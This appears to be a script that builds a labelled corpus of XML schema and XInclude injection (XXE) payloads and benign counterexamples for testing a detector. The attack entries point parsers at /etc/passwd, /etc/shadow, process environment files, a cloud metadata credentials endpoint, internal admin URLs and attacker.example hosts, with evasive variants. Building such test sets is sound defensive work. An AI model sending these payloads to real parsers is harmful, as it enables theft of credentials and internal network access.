// XML Schema directives (include, import, redefine, override) and XInclude that make a parser
// fetch from a URL or read a local file (xxe); and what must pass: schemas that include their
// neighbours by relative names, the W3C's xml.xsd, xsi:schemaLocation hints, the words in text.
const XSD = 'xmlns:xs="http://www.w3.org/2001/XMLSchema"';
const SCHEMA_XXE = [
  [false, `<?xml version="1.0"?><xs:schema ${XSD} targetNamespace="urn:shop:orders"><xs:include schemaLocation="file:///etc/passwd"/><xs:element name="order" type="xs:string"/></xs:schema>`],
  [false, `<xs:schema ${XSD}><xs:import namespace="urn:meta" schemaLocation="http://169.254.169.254/latest/meta-data/iam/security-credentials/"/></xs:schema>`],
  [false, `<xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema"><xsd:redefine schemaLocation="https://attacker.example/base.xsd"><xsd:simpleType name="sku"><xsd:restriction base="sku"/></xsd:simpleType></xsd:redefine></xsd:schema>`],
  [false, `<schema xmlns="http://www.w3.org/2001/XMLSchema" version="1.1"><override schemaLocation="ftp://198.51.100.9/pub/o.xsd"/></schema>`],
  [false, `<xs:schema ${XSD}><xs:include schemaLocation="/proc/self/environ"/></xs:schema>`],
  [false, `<xs:schema ${XSD}><xs:import namespace="urn:x" schemaLocation="\\\\203.0.113.8\\share\\t.xsd"/></xs:schema>`],
  [false, `<invoice xmlns:xi="http://www.w3.org/2001/XInclude"><total>12</total><xi:include href="file:///etc/shadow" parse="text"/></invoice>`],
  [false, `<report><include xmlns="http://www.w3.org/2001/XInclude" href="http://10.0.0.12:8080/admin" parse="text"/></report>`],
  [true, `<xs:schema ${XSD}><xs:import\n\tnamespace="urn:a"\n\tschemaLocation\n=\n'netdoc:/etc/hosts'/></xs:schema>`],
  [true, `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><xs:schema ${XSD}><xs:include schemaLocation="jar:file:///tmp/u.zip!/a.xsd"/></xs:schema></soap:Body></soap:Envelope>`],
  [true, `<xs:schema ${XSD}><xs:import namespace="a&gt;b>c" schemaLocation="http://www.w3.org.attacker.example/xml.xsd"/></xs:schema>`],
];
for (const [evasive, v] of SCHEMA_XXE) {
  add('xxe', placeXml(v, { raw: true }), evasive, 'schema or xinclude');
  add('xxe', placeForm('xml', v), evasive, 'schema or xinclude');
}
const SCHEMA_BENIGN = [
  `<?xml version="1.0"?><xs:schema ${XSD} targetNamespace="urn:shop:orders" elementFormDefault="qualified"><xs:include schemaLocation="common-types.xsd"/><xs:element name="order" type="OrderType"/></xs:schema>`,
  `<xs:schema ${XSD}><xs:import namespace="urn:shop:address" schemaLocation="../address/address.xsd"/><xs:element name="shipTo" type="a:Address"/></xs:schema>`,
  `<xs:schema ${XSD}><xs:import namespace="http://www.w3.org/XML/1998/namespace" schemaLocation="http://www.w3.org/2001/xml.xsd"/><xs:attribute ref="xml:lang"/></xs:schema>`,
  `<xs:schema ${XSD}><xs:redefine schemaLocation="base/item.xsd"><xs:complexType name="Item"><xs:complexContent><xs:extension base="Item"><xs:sequence><xs:element name="gift" type="xs:boolean"/></xs:sequence></xs:extension></xs:complexContent></xs:complexType></xs:redefine></xs:schema>`,
  `<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion><artifactId>orders</artifactId></project>`,
  `<beans xmlns="http://www.springframework.org/schema/beans" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.springframework.org/schema/beans https://www.springframework.org/schema/beans/spring-beans.xsd"><bean id="orders" class="shop.Orders"/></beans>`,
  `<xs:schema ${XSD}><xs:annotation><xs:documentation>Each include names a schemaLocation relative to this file, e.g. schemaLocation="http://example.com/a.xsd" is refused.</xs:documentation></xs:annotation></xs:schema>`,
  `<?xml version="1.0"?><recipe><step>Include the zest, then import the spices you like.</step><note>xs:include is a schema thing, not a cooking one</note></recipe>`,
];
for (const v of SCHEMA_BENIGN) {
  ok('xml-schema', placeXml(v, { raw: true }));
  ok('xml-schema', placeForm('xml', v));
}
// A harmless internal entity declared first, to hide what comes after it.
for (const v of [
  `<!DOCTYPE s [<!ENTITY v "1.0">]><xs:schema ${XSD} version="&v;"><xs:redefine schemaLocation="https://attacker.example/base.xsd"/></xs:schema>`,
  '<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd" [<!ENTITY v "1.0">]><d>&v;</d>',
]) add('xxe', placeXml(v, { raw: true }), true, 'internal entity first');

// ---------------------------------------------------------------- write
const lines = (rows) => rows.map((r) => JSON.stringify(r)).join('\n') + '\n';
writeFileSync(join(here, 'attacks.jsonl'), lines(attacks));
writeFileSync(join(here, 'benign.jsonl'), lines(benign));
const byClass = {};
for (const a of attacks) byClass[a.class] = (byClass[a.class] ?? 0) + 1;
const byKind = {};
for (const b of benign) byKind[b.class] = (byKind[b.class] ?? 0) + 1;
console.log(`attacks: ${attacks.length} (evasive ${attacks.filter((a) => a.evasive).length})`, byClass);
console.log(`benign: ${benign.length}`, byKind);
